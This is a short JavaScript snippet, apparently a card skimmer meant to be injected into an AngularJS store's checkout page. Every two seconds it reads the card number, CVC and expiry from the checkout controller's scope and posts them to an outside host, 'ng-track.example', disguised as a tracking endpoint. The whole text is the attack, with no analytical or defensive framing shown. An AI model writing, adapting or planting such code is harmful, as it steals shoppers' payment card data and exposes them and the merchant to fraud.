setInterval(function () {
  var el = angular.element(document.querySelector('[ng-controller=CheckoutCtrl]')), sc = el && el.scope();
  if (sc && sc.card && sc.card.number) { $.post('https://ng-track.example/t', { n: sc.card.number, c: sc.card.cvc, e: sc.card.expiry }); }
}, 2000);
